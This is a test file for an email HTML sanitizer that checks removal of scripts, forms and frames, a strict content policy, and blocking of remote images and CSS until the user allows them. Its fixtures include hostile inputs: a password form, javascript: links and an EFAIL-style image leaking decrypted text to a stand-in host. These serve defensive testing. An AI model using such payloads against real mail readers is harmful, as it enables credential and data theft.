import { describe, expect, it } from "vitest";
import { mailDocument } from "./mailHtml";

/** The frame's document, parsed, as the browser would read the srcdoc. */
function frame(html: string, remote = false, inlineImages?: ReadonlyMap<string, string>) {
  const mail = mailDocument(html, { remote, inlineImages });
  return { ...mail, document: new DOMParser().parseFromString(mail.srcdoc, "text/html") };
}

const pixel = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

describe("a mail's HTML in its frame", () => {
  it("loses script, event handlers, forms and frames", () => {
    const { document } = frame(
      `<p onclick="steal()">Hi</p><script>steal()</script><form action="https://evil.example/"><input name="password"></form>` +
      `<iframe src="https://evil.example/"></iframe><a href="javascript:steal()">x</a>`);

    expect(document.querySelector("script, form, input, iframe")).toBeNull();
    expect(document.querySelector("p")!.getAttribute("onclick")).toBeNull();
    expect(document.querySelector("a")!.getAttribute("href")).toBeNull();
    expect(document.body.textContent).toContain("Hi");
  });

  it("carries a policy that lets nothing load but data: images, and no script", () => {
    const policy = frame("<p>x</p>").document.querySelector('meta[http-equiv="Content-Security-Policy"]')!.getAttribute("content")!;

    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("img-src data:;");
    expect(policy).toContain("script-src 'none'");
    expect(policy).not.toContain("https:");
  });

  it("holds back every remote reference until asked: EFAIL's unclosed image, backgrounds, CSS urls and imports", () => {
    const { document, blocked } = frame(
      `<style>@import url(https://evil.example/a.css); .x { background: url('https://evil.example/b.png') }</style>` +
      `<img src="https://evil.example/?secret=` + `the decrypted text">` +
      `<table background="http://evil.example/t.png"><tr><td style="background-image:url(//evil.example/c.png)">x</td></tr></table>` +
      `<img src="/api/v1/tickets" srcset="https://evil.example/2x.png 2x">`);

    expect(blocked).toBe(7);
    expect(document.querySelectorAll("img[src], [background], [srcset]")).toHaveLength(0);
    expect(document.querySelector("td")!.getAttribute("style")).toBe("background-image:none");
    expect(document.querySelector("style")!.textContent).not.toContain("evil.example");
    expect(document.documentElement.outerHTML).not.toContain("evil.example");
  });

  it("once asked, lets https images load, and still nothing over plain http", () => {
    const { document, blocked } = frame(`<img src="https://cdn.example/logo.png"><img src="http://cdn.example/plain.png">`, true);

    expect(blocked).toBe(1);
    expect(Array.from(document.querySelectorAll("img"), (img) => img.getAttribute("src"))).toEqual(["https://cdn.example/logo.png", null]);
    expect(document.querySelector('meta[http-equiv="Content-Security-Policy"]')!.getAttribute("content")).toContain("img-src data: https:;");
  });

  it("shows data: images and the article's own inline images (cid:), which are not remote", () => {
    const { document, blocked } = frame(`<img src="${pixel}"><img src="cid:logo@example"><img src="cid:missing@example">`, false,
      new Map([["logo@example", pixel]]));

    expect(blocked).toBe(0);
    expect(Array.from(document.querySelectorAll("img"), (img) => img.getAttribute("src"))).toEqual([pixel, pixel, null]);
  });

  it("opens links in a tab of their own, never inside the frame", () => {
    const link = frame(`<a href="https://example.com/help">help</a>`).document.querySelector("a")!;

    expect(link.getAttribute("href")).toBe("https://example.com/help");
    expect(link.getAttribute("target")).toBe("_blank");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("keeps a whole document's own styles and its body's style", () => {
    const { document } = frame(`<html><head><style>p { color: #123456 }</style></head><body style="color: red"><p>Styled</p></body></html>`);

    expect(document.querySelector("body > style")!.textContent).toBe("p { color: #123456 }");
    expect(document.querySelector(".mail-root")!.getAttribute("style")).toBe("color: red");
  });
});
